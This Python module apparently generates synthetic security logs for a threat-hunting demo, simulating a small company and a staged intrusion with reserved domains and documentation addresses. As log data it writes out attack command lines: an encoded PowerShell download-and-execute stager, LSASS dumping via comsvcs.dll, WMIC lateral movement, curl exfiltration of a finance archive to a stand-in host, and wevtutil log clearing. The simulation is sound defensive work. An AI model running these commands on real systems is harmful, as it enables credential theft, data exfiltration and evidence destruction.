"""The made-up intrusion that the demo hunts: three days of one small company, the same for the same seed.

An outsider sprays passwords, signs in as one user, gets a document opened that starts encoded PowerShell, beacons
from the user's machine, dumps credentials, moves to the file server with a service, and carries an archive out.
Around it the company works as usual. All names are of reserved domains and documentation networks.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from operator import itemgetter
from random import Random
from typing import Any, Final

Row = dict[str, Any]

START: Final = datetime(2026, 3, 2)
DAYS: Final = 3
DOMAIN: Final = "CORP"
SUFFIX: Final = "corp.example"
ATTACKER: Final = "203.0.113.66"
CONTROLLER: Final = "198.51.100.23"
BEACON_NAME: Final = "sync.telemetry-cdn.example"
STAGER: Final = "http://cdn-update.example/win/agent.ps1"
VICTIM: Final = ("j.doe", "ws07")
SERVICE_ACCOUNT: Final = "svc-backup"
SERVER: Final = "fs01"

_FIRST: Final = "anna ben carla dan eva finn gina hans ida jon kim lea max nora otto pia quin rosa sam tina".split()
_SITES: Final = (
    "www.example.com mail.example.net news.example.org cdn.example.net update.example.com docs.example.org"
    " time.example.net store.example.com"
).split()
_DAILY: Final = (
    ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", ""),
    (
        "winword.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r'/n "C:\Users\{user}\Documents\plan.docx"',
    ),
    (
        "excel.exe", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r'"C:\Users\{user}\Documents\budget.xlsx"',
    ),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "--single-argument"),
    ("teams.exe", r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", ""),
    ("notepad.exe", r"C:\Windows\System32\notepad.exe", r"C:\Users\{user}\notes.txt"),
)  # fmt: skip
_HOUSEKEEPING: Final = (
    ("svchost.exe", r"C:\Windows\System32\svchost.exe", "-k netsvcs -p -s Schedule"),
    ("taskhostw.exe", r"C:\Windows\System32\taskhostw.exe", ""),
    ("MpCmdRun.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MpCmdRun.exe", "Scan -ScheduleJob"),
    ("wuauclt.exe", r"C:\Windows\System32\wuauclt.exe", "/RunHandlerComServer"),
)


@dataclass(frozen=True, slots=True)
class Started:
    """A process that runs on a machine."""

    host: str
    pid: int
    path: str
    command_line: str
    user: str
    logon: str
    at: datetime

    @property
    def name(self) -> str:
        return self.path.rpartition("\\")[2]


@dataclass
class Story:
    """The tables as they fill."""

    random: Random
    tables: dict[str, list[Row]] = field(default_factory=dict)
    last_pid: dict[str, int] = field(default_factory=dict)

    def add(self, table: str, at: datetime, **values: Any) -> None:
        """One row; Defender tables call their time `Timestamp`."""
        self.tables.setdefault(table, []).append({_time_column(table): at, **values})

    def later(self, at: datetime, low: float, high: float) -> datetime:
        """Some seconds later."""
        return at + timedelta(seconds=self.random.uniform(low, high))


def tell(seed: int = 7) -> dict[str, list[Row]]:
    """The tables of the story, each sorted by time.

    >>> len(tell()["SigninLogs"]) > 200
    True
    """
    story = Story(Random(seed))  # noqa: S311  (the same story each time, no secret)
    users = [f"{first}.{last}" for first in _FIRST for last in ("hill", "wood", "lake")] + [VICTIM[0]]
    hosts = {f"ws{number:02}": users[number * 5 % len(users)] for number in range(1, 13)} | {VICTIM[1]: VICTIM[0]}
    shells = {host: _boot(story, host, user) for host, user in hosts.items()}
    services = {host: _boot_server(story, host) for host in ("dc01", SERVER)}
    for day in range(DAYS):
        for host, user in hosts.items():
            _working_day(story, START + timedelta(days=day), host, user, shells[host])
    _spray(story, users)
    loader = _phish(story, shells[VICTIM[1]])
    _beacon(story, loader)
    _discover(story, loader)
    _move(story, loader, services[SERVER])
    for name, rows in story.tables.items():
        rows.sort(key=itemgetter(_time_column(name)))
    return dict(sorted(story.tables.items()))


def _time_column(table: str) -> str:
    return "Timestamp" if table.startswith("Device") else "TimeGenerated"


def _address(host: str) -> str:
    servers = {"dc01": "10.20.0.5", SERVER: "10.20.0.20"}
    return servers.get(host) or f"10.20.1.{int(host[2:]) + 100}"


# --- what every machine does -----------------------------------------------------------------------------------


def _boot(story: Story, host: str, user: str) -> Started:
    at = story.later(START, 0, 600)
    parent = Started(
        host, 612, r"C:\Windows\System32\userinit.exe", "userinit.exe", user, f"0x{story.random.getrandbits(24):x}", at
    )
    return _start(story, parent, r"C:\Windows\explorer.exe", "", at)


def _boot_server(story: Story, host: str) -> Started:
    at = story.later(START, 0, 60)
    system = Started(host, 480, r"C:\Windows\System32\wininit.exe", "wininit.exe", f"{host.upper()}$", "0x3e7", at)
    return _start(story, system, r"C:\Windows\System32\services.exe", "", at)


def _start(story: Story, parent: Started, path: str, arguments: str, at: datetime, user: str = "") -> Started:
    """A process is created: both logs say so."""
    host = parent.host
    pid = story.last_pid[host] = story.last_pid.get(host, 900) + 4 * story.random.randint(1, 40)
    quoted = f'"{path}"' if " " in path else path
    child = Started(host, pid, path, f"{quoted} {arguments}".strip(), user or parent.user, parent.logon, at)
    story.add(
        "SecurityEvent", at, Computer=f"{host}.{SUFFIX}", EventID=4688, Channel="Security",
        Activity="4688 - A new process has been created.", Account=f"{DOMAIN}\\{child.user}",
        SubjectUserName=child.user, SubjectDomainName=DOMAIN, SubjectLogonId=child.logon,
        NewProcessId=hex(pid), NewProcessName=path, ProcessId=hex(parent.pid), ParentProcessName=parent.path,
        CommandLine=child.command_line, Process=child.name,
    )  # fmt: skip
    story.add(
        "DeviceProcessEvents", at, DeviceName=f"{host}.{SUFFIX}", ActionType="ProcessCreated", FileName=child.name,
        FolderPath=path, ProcessId=pid, ProcessCommandLine=child.command_line, ProcessCreationTime=at,
        AccountDomain=DOMAIN, AccountName=child.user, LogonId=int(child.logon, 16),
        InitiatingProcessFileName=parent.name, InitiatingProcessFolderPath=parent.path,
        InitiatingProcessId=parent.pid, InitiatingProcessCommandLine=parent.command_line,
        InitiatingProcessCreationTime=parent.at, InitiatingProcessAccountName=parent.user,
    )  # fmt: skip
    return child


def _logon(story: Story, at: datetime, host: str, user: str, source: str, kind: int, *, failed: bool = False) -> None:
    event = 4625 if failed else 4624
    story.add(
        "SecurityEvent", at, Computer=f"{host}.{SUFFIX}", EventID=event, Channel="Security",
        Activity=f"{event} - An account {'failed to log on' if failed else 'was successfully logged on'}.",
        Account=f"{DOMAIN}\\{user}", TargetAccount=f"{DOMAIN}\\{user}", TargetUserName=user, TargetDomainName=DOMAIN,
        LogonType=kind, IpAddress=source, WorkstationName="", TargetLogonId=f"0x{story.random.getrandbits(24):x}",
        Status="0xc000006d" if failed else "0x0", SubStatus="0xc000006a" if failed else "0x0",
        AuthenticationPackageName="NTLM" if kind == 3 else "Kerberos",
    )  # fmt: skip


def _connect(
    story: Story, at: datetime, process: Started, name: str, address: str, port: int, sent: int, received: int
) -> None:
    """A connection out: name resolution, the endpoint and the firewall say so."""
    source = _address(process.host)
    story.add(
        "DnsEvents", at, Computer="dc01." + SUFFIX, ClientIP=source, Name=name, QueryType="A", IPAddresses=address,
        SubType="LookupQuery", ResultCode=0,
    )  # fmt: skip
    story.add(
        "DeviceNetworkEvents", at, DeviceName=f"{process.host}.{SUFFIX}", ActionType="ConnectionSuccess",
        LocalIP=source, LocalPort=story.random.randint(49152, 65535), RemoteIP=address, RemotePort=port,
        RemoteUrl=name, Protocol="Tcp", InitiatingProcessFileName=process.name,
        InitiatingProcessFolderPath=process.path, InitiatingProcessId=process.pid,
        InitiatingProcessCommandLine=process.command_line, InitiatingProcessCreationTime=process.at,
        InitiatingProcessAccountName=process.user,
    )  # fmt: skip
    story.add(
        "CommonSecurityLog", at, DeviceVendor="Example Networks", DeviceProduct="Firewall", DeviceAction="allow",
        Activity="TRAFFIC", SourceIP=source, SourcePort=story.random.randint(49152, 65535), DestinationIP=address,
        DestinationPort=port, DestinationHostName=name, Protocol="TCP", SentBytes=sent, ReceivedBytes=received,
        Computer="fw01." + SUFFIX,
    )  # fmt: skip


def _signin(story: Story, at: datetime, user: str, source: str, code: int, country: str, city: str) -> None:
    reasons = {0: "", 50126: "Error validating credentials due to invalid username or password."}
    story.add(
        "SigninLogs", at, UserPrincipalName=f"{user}@{SUFFIX}", UserDisplayName=user.replace(".", " ").title(),
        IPAddress=source, AppDisplayName="Office 365 Exchange Online", ClientAppUsed="Browser",
        ResultType=str(code), ResultDescription=reasons[code], ConditionalAccessStatus="notApplied",
        RiskLevelDuringSignIn="none", Location=country,
        LocationDetails={"city": city, "countryOrRegion": country},
        Status={"errorCode": code, "failureReason": reasons[code]},
        DeviceDetail={"operatingSystem": "Windows 10", "browser": "Edge"}, UserAgent="Mozilla/5.0",
    )  # fmt: skip


def _working_day(story: Story, day: datetime, host: str, user: str, shell: Started) -> None:
    at = story.later(day + timedelta(hours=7), 0, 7_200)
    _logon(story, at, host, user, "-", 2)
    _signin(story, at, user, "192.0.2.10", 50126 if story.random.random() < 0.05 else 0, "DE", "Berlin")
    end = at + timedelta(hours=8)
    while (at := story.later(at, 60, 600)) < end:
        chance = story.random.random()
        if chance < 0.35:
            _name, path, arguments = story.random.choice(_DAILY)
            _start(story, shell, path.format(user=user), arguments.format(user=user), at)
        elif chance < 0.5:
            _name, path, arguments = story.random.choice(_HOUSEKEEPING)
            _start(story, shell, path, arguments, at, user=f"{host.upper()}$")
        elif chance < 0.95:
            site = story.random.choice(_SITES)
            address = f"192.0.2.{50 + _SITES.index(site)}"
            _connect(
                story,
                at,
                shell,
                site,
                address,
                443,
                story.random.randint(500, 9_000),
                story.random.randint(2_000, 900_000),
            )
        else:
            _logon(story, at, story.random.choice(["dc01", SERVER]), user, _address(host), 3)


# --- the intrusion ---------------------------------------------------------------------------------------------


def _spray(story: Story, users: list[str]) -> None:
    """One guess for each user, again and again, until one fits."""
    at = START + timedelta(hours=2, minutes=10)
    for _round in range(3):
        for user in story.random.sample(users, len(users)):
            at = story.later(at, 2, 9)
            _signin(story, at, user, ATTACKER, 50126, "NL", "Amsterdam")
            _logon(story, at, "dc01", user, ATTACKER, 3, failed=True)
        at += timedelta(minutes=20)
    _signin(story, at, VICTIM[0], ATTACKER, 0, "NL", "Amsterdam")


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def _phish(story: Story, shell: Started) -> Started:
    at = START + timedelta(hours=9, minutes=12, seconds=41)
    word = _start(
        story, shell, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        rf'/n "C:\Users\{VICTIM[0]}\Downloads\invoice_4711.docm"', at,
    )  # fmt: skip
    script = f"$c = New-Object Net.WebClient; IEX $c.DownloadString('{STAGER}'); # {CONTROLLER}"
    at = story.later(at, 5, 9)
    shell_path = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    loader = _start(story, word, shell_path, f"-nop -w hidden -enc {_encoded(script)}", at)
    _connect(story, story.later(at, 1, 3), loader, "cdn-update.example", "198.51.100.80", 80, 412, 88_213)
    dropped = rf"C:\Users\{VICTIM[0]}\AppData\Local\Temp\agent.dll"
    story.add(
        "DeviceFileEvents", story.later(at, 4, 6), DeviceName=f"{VICTIM[1]}.{SUFFIX}", ActionType="FileCreated",
        FileName="agent.dll", FolderPath=dropped, SHA256="3f1c" + "9a7b" * 15, FileSize=88_213,
        InitiatingProcessFileName="powershell.exe", InitiatingProcessId=loader.pid,
        InitiatingProcessCommandLine=loader.command_line, InitiatingProcessAccountName=loader.user,
    )  # fmt: skip
    story.add(
        "DeviceRegistryEvents", story.later(at, 8, 12), DeviceName=f"{VICTIM[1]}.{SUFFIX}",
        ActionType="RegistryValueSet", RegistryValueName="Updater",
        RegistryKey=r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run",
        RegistryValueData=f"rundll32.exe {dropped},Start", InitiatingProcessFileName="powershell.exe",
        InitiatingProcessId=loader.pid, InitiatingProcessAccountName=loader.user,
    )  # fmt: skip
    return _start(story, loader, r"C:\Windows\System32\rundll32.exe", f"{dropped},Start", story.later(at, 10, 14))


def _beacon(story: Story, loader: Started) -> None:
    """Every five minutes, give or take ten seconds, day and night."""
    at, end = loader.at, START + timedelta(days=DAYS)
    while (at := story.later(at, 290, 310)) < end:
        _connect(
            story,
            at,
            loader,
            BEACON_NAME,
            CONTROLLER,
            443,
            story.random.randint(300, 340),
            story.random.randint(150, 170),
        )


def _discover(story: Story, loader: Started) -> None:
    at = loader.at + timedelta(minutes=31)
    command = _start(story, loader, r"C:\Windows\System32\cmd.exe", "/c whoami /all", at)
    for path, arguments in (
        (r"C:\Windows\System32\whoami.exe", "/all"),
        (r"C:\Windows\System32\net.exe", 'group "Domain Admins" /domain'),
        (r"C:\Windows\System32\nltest.exe", "/domain_trusts"),
        (r"C:\Windows\System32\ipconfig.exe", "/all"),
        (
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full",
        ),
    ):
        at = story.later(at, 4, 40)
        _start(story, command, path, arguments, at)


def _move(story: Story, loader: Started, services: Started) -> None:
    """To the file server with a stolen account and a service, and out again with an archive."""
    at = START + timedelta(days=1, hours=1, minutes=47)
    source = _address(VICTIM[1])
    _start(
        story, loader, r"C:\Windows\System32\wbem\WMIC.exe",
        f'/node:{SERVER} /user:{DOMAIN}\\{SERVICE_ACCOUNT} process call create "cmd /c hostname"', at,
    )  # fmt: skip
    _logon(story, story.later(at, 2, 4), SERVER, SERVICE_ACCOUNT, source, 3)
    at = story.later(at, 60, 90)
    story.add(
        "SecurityEvent", at, Computer=f"{SERVER}.{SUFFIX}", EventID=4697, Channel="Security",
        Activity="4697 - A service was installed in the system.", Account=f"{DOMAIN}\\{SERVICE_ACCOUNT}",
        SubjectUserName=SERVICE_ACCOUNT, SubjectDomainName=DOMAIN, ServiceName="PSEXESVC",
        ServiceFileName=r"%SystemRoot%\PSEXESVC.exe",
    )  # fmt: skip
    service = _start(story, services, r"C:\Windows\PSEXESVC.exe", "", story.later(at, 1, 2), user=SERVICE_ACCOUNT)
    command = _start(story, service, r"C:\Windows\System32\cmd.exe", "/q", story.later(at, 3, 5))
    at = story.later(at, 20, 40)
    _start(
        story, command, r"C:\Windows\Temp\7z.exe",
        r"a -p C:\Windows\Temp\report.7z D:\Shares\Finance D:\Shares\Legal", at,
    )  # fmt: skip
    sender = _start(
        story,
        command,
        r"C:\Windows\System32\curl.exe",
        f"-T C:\\Windows\\Temp\\report.7z https://{BEACON_NAME}/up",
        story.later(at, 300, 400),
    )
    _connect(story, story.later(sender.at, 1, 2), sender, BEACON_NAME, CONTROLLER, 443, 734_003_200, 4_212)
    _start(story, command, r"C:\Windows\System32\wevtutil.exe", "cl Security", story.later(sender.at, 60, 90))
    story.add(
        "SecurityEvent", story.later(sender.at, 91, 95), Computer=f"{SERVER}.{SUFFIX}", EventID=1102,
        Channel="Security", Activity="1102 - The audit log was cleared.", Account=f"{DOMAIN}\\{SERVICE_ACCOUNT}",
        SubjectUserName=SERVICE_ACCOUNT, SubjectDomainName=DOMAIN,
    )  # fmt: skip
